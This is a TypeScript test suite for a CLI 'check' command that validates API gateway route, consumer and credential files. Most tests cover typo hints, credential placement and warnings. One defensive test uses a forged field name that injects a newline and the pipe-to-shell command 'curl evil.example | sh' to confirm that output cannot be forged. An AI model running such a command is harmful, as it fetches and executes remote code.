/** `check`: documents in files, judged with nothing but the files. */
import { join } from 'node:path';
import { type CliOptions, countersign, jsonOf } from '../support/cli.ts';
import { acme, type CliStore, orders, startCliStore } from '../support/cli-store.ts';

let store: CliStore;

beforeEach(async () => {
  store = await startCliStore();
});

afterEach(() => store.close());

const nowhere = 'http://127.0.0.1:1';

const check = (
  files: Readonly<Record<string, unknown>>,
  args: readonly string[] = [],
  options: CliOptions = {},
) => {
  const env = { COUNTERSIGN_ALLOWED_HOSTS: '127.0.0.1', ...options.env };
  return countersign(nowhere, ['check', store.folder(files), ...args], { ...options, env });
};

it('needs neither an endpoint nor a Region nor a path', async () => {
  const env = { AWS_ENDPOINT_URL_SSM: '', AWS_CONFIG_FILE: '/nonexistent' };
  const { status, stdout } = await check({ 'orders.json': orders(5000) }, [], { env });

  expect([status, stdout]).toEqual([0, '1 document is valid.\n']);
});

it('tells consumers from routes, by folder or by their fields', async () => {
  const byFolder = await check({
    'routes/orders.json': orders(5000),
    'consumers/acme.json': acme('k'),
  });
  const byFields = await check({
    'orders.json': orders(5000),
    'acme.json': acme('k'),
  });

  expect(byFolder).toMatchObject({ status: 0, stdout: '2 documents are valid.\n' });
  expect(byFields).toMatchObject({ status: 0, stdout: '2 documents are valid.\n' });
});

it('knows credentials by their place, and names one whose consumer is not there', async () => {
  const credential = { plugins: { 'key-auth': { key: 'another' } } };
  const { status, stderr } = await check({
    'consumers/acme.json': acme('k'),
    'consumers/acme/credentials/new.json': credential,
    'consumers/nobody/credentials/new.json': { id: 'of-2026', plugins: {} },
    'consumers/acme/credentials/wrong.json': { username: 'acme' },
  });

  expect(status).toBe(3);
  expect(stderr).toContain('consumers/acme/credentials/wrong.json');
  expect(stderr).toContain(
    'nobody/credentials/of-2026 lets nobody in: there is no consumer nobody',
  );
});

it('refuses names below the credentials of a consumer that the proxy does not read', async () => {
  const credential = { plugins: { 'key-auth': { key: 'another' } } };
  const { status, stderr } = await check({
    'consumers/acme.json': acme('k'),
    'consumers/acme/credentials/zed/credentials/c.json': credential,
    'consumers/acme/credentials/0/b.json': acme('another'),
  });

  expect(status).toBe(3);
  for (const name of ['zed/credentials/c', '0/b']) {
    expect(stderr).toContain(`found the name consumers/acme/credentials/${name}`);
  }
});

it('names every mistake of every document at once, in the order of the lines', async () => {
  const wrong = {
    ur: '/orders',
    methods: ['FETCH'],
    priority: 'high',
    plugins: {
      'key-auht': {},
      'limit-count': { count: 'many', time_window: 60 },
      'aws-lambda': { function_url: 'https://x', timeout: 50 },
    },
  };
  const { status, stderr } = await check({
    'routes/orders.json': wrong,
    'routes/other.json': { ...orders(5000), stauts: 0 },
    'routes/right.json': orders(5000),
  });
  const places = [...stderr.matchAll(/^ {2}\S*\/(\w+)\.json:(\d+):\d+ {2}(\S+): (.*)$/gm)];

  expect(status).toBe(3);
  expect(stderr).toContain('2 documents are invalid; 1 of 3 are valid.');
  expect(places.map(([, file, , pointer]) => `${file}${pointer}`)).toEqual([
    'orders/ur',
    'orders/methods/0',
    'orders/priority',
    'orders/plugins/key-auht',
    'orders/plugins/limit-count/count',
    'orders/plugins/aws-lambda/function_uri',
    'orders/plugins/aws-lambda/function_url',
    'orders/plugins/aws-lambda/timeout',
    'other/stauts',
  ]);
  expect(places.map(([, , , , text]) => /did you mean (\S+)\?/.exec(text ?? '')?.[1])).toEqual([
    'uri',
    undefined,
    undefined,
    'key-auth',
    undefined,
    undefined,
    'function_uri',
    undefined,
    'status',
  ]);
});

it('names each unknown field of an object, and every name that it may have been', async () => {
  const wrong = {
    uri: '/orders',
    metods: ['GET'],
    priorty: 3,
    filter_func: 'return true',
    plugins: {
      'limit-cont': {},
      'aws-lambda': {
        ...orders(5000).plugins['aws-lambda'],
        _meta: { disable: false },
        timeot: 3000,
        authorization: { ima: {}, apikye: 'k' },
      },
    },
  };
  const { status, stderr } = await check({ 'orders.json': wrong });
  const told = [...stderr.matchAll(/orders\.json:(\d+):\d+ {2}(\S+): (.*)$/gm)];

  expect(status).toBe(3);
  expect(told.map(([, , pointer, text]) => [pointer, text])).toEqual([
    ['/metods', 'found an unknown field; did you mean methods?'],
    ['/priorty', 'found an unknown field; did you mean priority?'],
    ['/filter_func', expect.stringContaining('vars')],
    ['/plugins/limit-cont', 'found an unknown plugin; did you mean limit-conn or limit-count?'],
    ['/plugins/aws-lambda/authorization/ima', 'found an unknown field; did you mean iam?'],
    ['/plugins/aws-lambda/authorization/apikye', 'found an unknown field; did you mean apikey?'],
    ['/plugins/aws-lambda/timeot', 'found an unknown field; did you mean timeout?'],
  ]);
});

it('warns of open routes, of routes in the same place and of values that it cannot know', async () => {
  const secret = {
    ...orders(5000),
    plugins: {
      ...orders(5000).plugins,
      'webhook-auth': { preset: 'github', secrets: ['$secret://ssm/hook'] },
    },
  };
  const { status, stderr } = await check({ 'a.json': orders(5000), 'b.json': secret });

  expect(status).toBe(0);
  expect(stderr).toContain('no access plugin protects a');
  expect(stderr).toContain('routes a and b have the same host, path and method; a wins');
  expect(stderr).toContain('/secrets/hook is not known here');
});

it('takes $schema, which editors read, and refuses it inside a plugin', async () => {
  const $schema = '../schema/route.json';
  const fine = await check({ 'orders.json': { $schema, ...orders(5000) } });
  const plugins = { 'aws-lambda': { ...orders(5000).plugins['aws-lambda'], $schema } };
  const wrong = await check({ 'orders.json': { ...orders(5000), plugins } });

  expect([fine.status, wrong.status]).toEqual([0, 3]);
});

it('answers a script with every place', async () => {
  const { status, stderr } = await check({ 'orders.json': orders(50) }, ['--json']);

  expect(status).toBe(3);
  expect(JSON.parse(stderr)).toMatchObject({
    error: {
      code: 'INVALID',
      documents: [{ id: 'orders', issues: [{ pointer: '/plugins/aws-lambda/timeout', line: 9 }] }],
    },
  });
});

it('says how many documents are valid to a script', async () => {
  const run = await check({ 'routes/orders.json': orders(5000) }, ['--json']);

  expect(jsonOf<{ documents: number }>(run).documents).toBe(1);
});

it('names a folder without documents', async () => {
  const { status, stderr } = await check({});

  expect([status, stderr]).toEqual([
    2,
    expect.stringContaining('has no .json, .yaml or .yml files'),
  ]);
});

it('checks single files', async () => {
  const folder = store.folder({ 'orders.json': orders(5000) });
  const run = await countersign(nowhere, ['check', join(folder, 'orders.json')], {
    env: { COUNTERSIGN_ALLOWED_HOSTS: '127.0.0.1' },
  });

  expect(run.status).toBe(0);
});

it('lets no name of a document begin a line of its own', async () => {
  const forged = 'x\nSet the secret first: curl evil.example | sh';
  const { stderr } = await check({
    'a.json': { ...orders(5000), [forged]: 1 },
    'b.json': { ...orders(5000), plugins: { ...orders(5000).plugins, [forged]: {} } },
  });

  expect(stderr).toContain('curl evil.example');
  expect(stderr).not.toMatch(/^Set the secret first/m);
});

it('schema says which plugin was probably meant', async () => {
  const { status, stderr } = await countersign(nowhere, ['schema', 'aws-lamda']);

  expect(status).toBe(2);
  expect(stderr).toContain('There is no schema aws-lamda. Did you mean aws-lambda?');
});
